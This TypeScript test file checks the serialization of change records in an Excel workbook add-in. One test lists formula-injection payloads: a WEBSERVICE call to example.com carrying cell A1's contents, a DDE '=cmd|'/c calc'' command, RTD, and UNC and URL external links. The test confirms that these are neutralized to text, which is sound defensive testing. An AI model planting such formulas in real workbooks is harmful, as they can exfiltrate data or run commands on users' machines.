import fc from "fast-check";
import { COLUMNS } from "../../../src/core/ownership/columns";
import { formatHead, parseHead, firstHead } from "../../../src/workbook/refresh/head";
import type { TableChange } from "../../../src/workbook/refresh/tableChange";

const source = { kind: "list", name: "", date: null, hash: null } as const;
const table = { offering: {}, notes: [], headingNoteRefs: [], printedTotals: null, showsPercentBefore: true } as unknown as TableChange["table"]["from"];
const around = (change: Pick<TableChange, "cells" | "others">): TableChange => ({ ...change, totals: [], headLines: [], added: [], removed: [], terms: [], notes: [], base: [], order: null, table: { from: table, to: table }, source: { from: source, to: source }, mode: { from: "formulas", to: "values" } });

const content = fc.oneof(fc.constantFrom("=[@Held]+1", "=SUM(<&>)", "", "'1", "Ann"), fc.integer(), fc.boolean());
const cell = fc.record({ id: fc.constantFrom("h1", "h2", "h3", "name:Ann & Bo"), column: fc.constantFrom(...COLUMNS.map(([id]) => id)), from: content, to: content });
const other = fc.record({ sheet: fc.constantFrom("lockUp" as const, "checks" as const), row: fc.nat(50), column: fc.nat(9), from: content, to: content });
const sorted = (items: readonly unknown[]): string[] => items.map((item) => JSON.stringify(item)).sort();

test("what is kept of a change is the change", () => {
  fc.assert(fc.property(fc.array(cell, { maxLength: 30 }), fc.option(fc.array(other, { maxLength: 30 }), { nil: undefined }), (cells, others) => {
    const change = around({ cells, ...(others ? { others } : {}) });
    const head = parseHead(formatHead({ ...firstHead("", "2020-01-01"), change }));
    if (!head || head === "newer" || !head.change) throw new Error("not read");
    expect(sorted(head.change.cells)).toEqual(sorted(cells));
    expect(head.change.others && sorted(head.change.others)).toEqual(others && sorted(others));
    expect({ ...head.change, cells: [], others: [] }).toEqual({ ...change, cells: [], others: [] });
  }));
});

test("a switch of ten thousand rows fits what Excel on the web takes at once", () => {
  const rows = Array.from({ length: 10_000 }, (_, index) => index);
  const formula = "=IF(OR(SellingStockholders[[#This Row],[Ownership cap]]=\"\",Offering_SharesOutstanding=\"\"),0,1)".repeat(3);
  const change = around({
    cells: rows.flatMap((row) => (["ownedBefore", "ownedAfter", "percentBefore", "percentAfter", "offeredFromAcquirable"] as const).map((column) => ({ id: `h${row}`, column, from: formula, to: row / 7 }))),
    others: rows.flatMap((row) => Array.from({ length: 11 }, (_, column) => ({ sheet: "lockUp" as const, row, column, from: formula, to: row * 1000 + column }))),
  });
  const once = formatHead({ ...firstHead("", "2020-01-01"), change }).length;
  expect(once).toBeLessThan(3_500_000);
});

test.each([
  '=WEBSERVICE("https://example.com/?"&A1)', '=1+_xlfn.WEBSERVICE ("x"&A1)', '=IMAGE("https://example.com")', "=cmd|'/c calc'!A1", '=RTD("a",,"b")', "='\\\\host\\share\\[b.xlsx]S'!A1", "='https://example.com/[b.xlsx]S'!A1",
])("a stored formula that reaches out comes back as text: %s", (formula) => {
  const change = around({ cells: [{ id: "h1", column: "name", from: formula, to: "Ann" }], others: [{ sheet: "checks", row: 1, column: 1, from: formula, to: 1 }] });
  const row = { id: "h9", name: "Bo", at: null, cells: { name: "Bo", "#7": formula } };
  const head = parseHead(formatHead({ ...firstHead("", "2020-01-01"), change: { ...change, removed: [row], terms: [{ term: "sharesOutstanding", from: formula, to: 1, sourceFrom: formula, sourceTo: "" }] } }));
  if (!head || head === "newer" || !head.change) throw new Error("not read");
  expect(JSON.stringify(head.change)).not.toContain('"=');
  expect(head.change.cells[0]!.from).toBe(`'${formula}`);
  expect(head.change.removed[0]!.cells["#7"]).toBe(`'${formula}`);
});

test("a part whose change is none of ours is damaged, not a fault", () => {
  const head = formatHead({ ...firstHead("", "2020-01-01"), change: around({ cells: [] }) });
  expect(parseHead(head)).not.toBeNull();
  expect(parseHead(head.replace('"columns":[]', `"columns":[{"column":"name","rows":7,"from":{"all":"x"},"to":{"all":1}}]`))).toBeNull();
});

test.each(["=[@Held]+[@Acquirable]", '=IF([@[Note | mark]]="a|b","https://example.com",SUM(A1:B2))', "=[Book2.xlsx]Sheet1!A1", "=MYIMAGE(1)"])("a stored formula of the workbook's own stays one: %s", (formula) => {
  const head = parseHead(formatHead({ ...firstHead("", "2020-01-01"), change: around({ cells: [{ id: "h1", column: "name", from: formula, to: "Ann" }] }) }));
  expect(head !== null && head !== "newer" && head.change!.cells[0]!.from).toBe(formula);
});
